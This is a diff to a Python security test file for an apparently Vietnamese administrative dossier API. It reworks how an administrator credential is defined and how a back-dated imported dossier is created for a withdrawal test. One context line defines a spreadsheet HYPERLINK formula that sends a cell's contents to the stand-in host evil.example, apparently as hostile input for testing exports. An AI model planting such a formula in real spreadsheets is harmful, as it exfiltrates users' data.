@@ -13,7 +13,9 @@ import pytest
 from openpyxl import load_workbook
 from sqlalchemy import update
 
-from security.world import A, ADMIN, B, PROVINCE, bearer
+from security.world import A, B, PROVINCE, bearer
+
+ADMIN = bearer("admin", unit=PROVINCE)  # the province's administrator
 
 FORMULA = '=HYPERLINK("http://evil.example/x?"&A1,"Bấm vào đây")'
 
@@ -70,7 +72,14 @@ def test_an_administrator_may_not_back_date_an_action_on_a_live_dossier(world):
 
 def test_an_imported_dossier_may_still_be_dated_in_the_past(world):
     intake = world["intake"]
-    code = intake.dossier("3L", A, "received", fresh=True)  # entered by the province with its 2019 reception
+    made = intake.client.post("/api/v1/dossiers", headers=ADMIN, json={  # entered with its 2019 reception
+        "procedure_code": "1.004884", "channel": "counter", "receiving_unit": A, "return_method": "counter",
+        "received_at": "2019-03-15T08:30:00+07:00",
+        "applicant": {"full_name": "Lò Văn Hùng", "id_number": "014090001234", "phone": None, "email": None,
+                      "address": "Bản Hưng Mai"},
+        "documents": [{"name": "Tờ khai", "copy_type": "original", "count": 1}]})
+    assert made.status_code == 201, made.get_json()
+    code = made.get_json()["code"]
     answer = intake.client.post(f"/api/v1/dossiers/{code}/withdrawal-request", headers=ADMIN,
                                 json={"reason": "Công dân không còn nhu cầu.",
                                       "occurred_at": "2019-03-18T09:00:00+07:00"})
